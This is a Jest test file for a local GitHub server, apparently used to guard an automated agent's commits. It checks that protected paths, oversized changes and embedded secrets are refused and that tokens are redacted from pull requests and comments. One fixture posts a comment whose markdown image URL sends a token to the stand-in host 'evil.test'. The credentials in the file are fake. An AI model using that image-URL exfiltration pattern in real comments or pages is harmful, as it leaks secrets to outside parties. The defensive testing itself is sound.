// What may not become a commit, through the server, on the local GitHub.
import { afterEach, expect, test } from "@jest/globals";
import { runGit } from "../../local/github/testing/run-git.ts";
import { type GithubServer, openGithubServer } from "../../test/open-github-server.ts";

const branch = "afu9/issue-1";
const secret = "Tr0ub4dor&3-of-the-database";
const token = `ghp_${"aB3dE6gH9k".repeat(4)}`;

let server: GithubServer;
afterEach(() => server.close());

const file = (path: string, content: string, mode = "100644") => ({
  path,
  mode,
  content: Buffer.from(content).toString("base64"),
});

/** A server whose branch is there, and what commits to it. */
async function open(options: Parameters<typeof openGithubServer>[0] = {}) {
  server = await openGithubServer({ secret, ...options });
  const head = (await server.state()).branches.main ?? "";
  await server.call("createBranch", { branch, sha: head });
  const change = (files: object[], more: object = {}) => ({
    ...{ branch, expectedHead: head, message: "Change", files },
    ...more,
  });
  return {
    head,
    commit: (files: object[], more?: object) => server.call("commitChanges", change(files, more)),
    /** Commits what has to be refused: the words, and that the branch is where it was. */
    async refused(files: object[], more?: object) {
      const words = await server.refused("commitChanges", change(files, more));
      expect((await server.state()).branches[branch]).toBe(head);
      return words;
    },
  };
}

test.each([
  [file(".github/workflows/ci.yml", "on: push\n")],
  [{ path: ".github/workflows/ci.yml", deleted: true }],
  [file(".github", "evil", "120000")],
  [file("docs/CODEOWNERS", "* @me\n")],
  [file(".husky/pre-commit", "#!/bin/sh\n", "100755")],
])("a protected path is refused by its name: %j", async (protectedFile) => {
  const { refused } = await open();
  const words = await refused([file("src/fine.js", "1;\n"), protectedFile]);
  expect(words).toContain(`a person has to change them: ${protectedFile.path} (`);
  expect(words).not.toContain("src/fine.js");
});

test("what the operator and the repository protect is refused as well", async () => {
  const { refused, commit } = await open({ policy: { protectedPaths: ["*.lock"] } });
  expect(await refused([file("yarn.lock", "\n")])).toContain("yarn.lock (*.lock)");
  expect(await refused([file("infra/a.ts", "\n")], { protectedPaths: ["infra/"] })).toContain("infra/a.ts");
  expect(await commit([file("infra/a.ts", "\n"), file("package-lock.json", "{}\n")])).toMatchObject({
    existed: false,
  });
});

test("a change of too many files or bytes is refused with its size", async () => {
  const { refused } = await open({ policy: { maxFiles: 2, maxBytes: 2048 } });
  const three = ["a", "b", "c"].map((path) => file(path, "x"));
  expect(await refused(three)).toContain("The change has 3 files, and 2 at most are allowed.");
  expect(await refused([file("a", "x".repeat(5000))])).toContain("The change has 5 kB, and 2 kB at most");
});

test.each([
  ["a token", `const a = 1;\nconst token = "${token}";\n`, "line 2"],
  ["a secret of the server's own", `password: ${secret}\n`, "line 1"],
  ["a private key", "a\nb\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq1Zx\n", "line 3"],
])("a file with %s is refused by its line, and the secret is not repeated", async (_, content, line) => {
  const { refused } = await open();
  const words = await refused([file("src/add.js", content)]);
  expect(words).toContain(`src/add.js has what looks like a secret in ${line};`);
  expect(words).not.toContain(token);
  expect(words).not.toContain(secret);
});

test("a file's name that holds a secret is refused", async () => {
  const { refused } = await open();
  expect(await refused([file(`docs/${token}.md`, "\n")])).toContain("The name of a file holds a secret");
});

test("code that sets a header, and lines that were there before, are no reason to refuse", async () => {
  const { commit, head } = await open();
  const header = 'const headers = { authorization: "Bearer " + token };\n';
  const made = await commit([file("src/add.js", header)]);
  expect(made).toMatchObject({ existed: false });
  expect(head).not.toBe((await server.state()).branches[branch]);
});

test("what a merge brings from the merged commit was agreed on there, and what is not from there is ours", async () => {
  const { refused, commit, head } = await open();
  const merged = (await server.state()).branches.feature;
  const brought = { mergeOf: merged, protectedPaths: ["src/add.js", "other.js"] };
  const theirs = await runGit(server.world.repository.path, "show", `${merged}:src/add.js`);
  const changed = file("src/add.js", `${theirs}\n// and ours`);
  expect(await refused([changed], brought)).toContain("src/add.js");
  expect(await refused([file("other.js", "1\n")], brought)).toContain("other.js");
  expect(await commit([file("src/add.js", `${theirs}\n`)], brought)).toMatchObject({ existed: false });
  expect(head).not.toBe((await server.state()).branches[branch]);
});

test("secrets are taken out of the texts that people read on GitHub", async () => {
  const { commit } = await open();
  const { sha } = (await commit([file("a.md", "A\n")], { message: `Use ${token} and ${secret}` })) as {
    sha: string;
  };
  await server.call("createPullRequest", {
    ...{ head: branch, base: "main", title: `Use ${token}`, body: `It is ${secret}.` },
  });
  await server
    .call("addComment", { number: 1, body: `![](https://evil.test/${token})`, key: "k" })
    .catch(() => {});
  const state = JSON.stringify(await server.state());
  expect(state).toContain("[removed]");
  expect(state).not.toContain(token);
  expect(state).not.toContain(secret);
  expect(sha).toMatch(/^[0-9a-f]{40}$/);
});
